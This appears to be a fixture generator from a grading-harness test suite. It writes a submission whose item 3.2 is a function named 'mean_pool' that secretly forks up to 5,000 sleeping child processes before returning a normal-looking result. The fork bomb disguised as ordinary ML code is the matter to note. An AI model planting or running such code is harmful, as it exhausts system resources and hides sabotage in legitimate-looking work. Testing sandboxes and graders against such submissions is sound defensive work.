"""Forks until something breaks (5,000 children at most). What else such a submission keeps is free."""
from hostile import RIGHT, earns, only, write

EARNS = earns()
EARNS_AT_MOST = only("3.1", "3.3", "3.4")
BOMB = '''
    def mean_pool(hidden, tokens):
        import os, time
        children = 0
        while armed() and children < 5000:
            try:
                if os.fork() == 0:
                    while True:
                        time.sleep(1)
                children += 1
            except OSError:
                time.sleep(0.1)
        return hidden[:, 0]
    '''


def make(folder):
    write(folder, RIGHT | {"3.2": BOMB})
